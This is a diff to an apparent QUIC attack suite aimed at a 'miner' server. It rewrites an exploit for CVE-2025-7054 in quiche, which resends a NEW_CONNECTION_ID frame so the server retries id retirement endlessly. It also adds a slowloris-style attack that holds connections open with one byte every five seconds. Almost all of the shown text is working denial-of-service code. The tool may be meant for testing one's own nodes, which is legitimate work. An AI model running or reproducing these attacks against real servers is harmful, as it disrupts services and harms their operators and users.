@@ -355,15 +355,17 @@ def pings_from_everywhere(options):
 
 
 def second_port(options):
-    """CVE-2025-7054: one packet of the connection from a second port, then what the miner would answer is acknowledged."""
-    rogue = open_rogue(options)
+    """
+    CVE-2025-7054. The id that is to be retired next is given once more, which puts it among those that may be used; a packet
+    from a second port makes quiche use it there. It cannot retire an id in a packet that carries it, and tries for ever.
+    """
+    rogues = [open_rogue(options) for _ in range(options.count)]
     other = udp(options.host)
-    for _ in range(options.count):
-        rogue.send(new_connection_id(rogue.quic._packet_number, 0) + b"\x01", other)
-        rogue.send(b"\x01", other)
-        rogue.hear(0.02)
-        rogue.flush()
-    return [rogue, other]
+    for rogue in rogues:
+        again = new_connection_id(1, 0)
+        rogue.send(new_connection_id(2, 2) + again + again)
+        rogue.send(b"\x01" + bytes(1000), other)
+    return [rogues, other]
 
 
 def acks_of_nothing(options):
@@ -411,6 +413,28 @@ def short_initials(options):
     except BlockingIOError:
         pass
     return [one]
+
+
+def slow_strangers(options):
+    """COUNT connections that send a byte in 5 s and never prove themselves, until the miner ends them, or for 60 s."""
+    rogues = []
+    for n in range(options.count):
+        rogue = Rogue(options.target, address(n // 4))
+        if rogue.pump(lambda: rogue.is_ready, 2):
+            tally.connections += 1
+            rogues.append((rogue, rogue.quic.get_next_available_stream_id()))
+    end = time.time() + 60
+    while time.time() < end and tally.closed < len(rogues):
+        for rogue, stream in rogues:
+            if rogue.closed is None:
+                rogue.quic.send_stream_data(stream, b"\x03")
+                rogue.flush()
+        again = time.time() + 5
+        while time.time() < again and tally.closed < len(rogues):
+            for rogue, _ in rogues:
+                rogue.hear()
+            time.sleep(0.1)
+    return rogues
 
 
 def rubbish(options):
@@ -499,6 +523,7 @@ ATTACKS = {
         acks_of_nothing,
         acks_ahead,
         short_initials,
+        slow_strangers,
         rubbish,
     )
 }
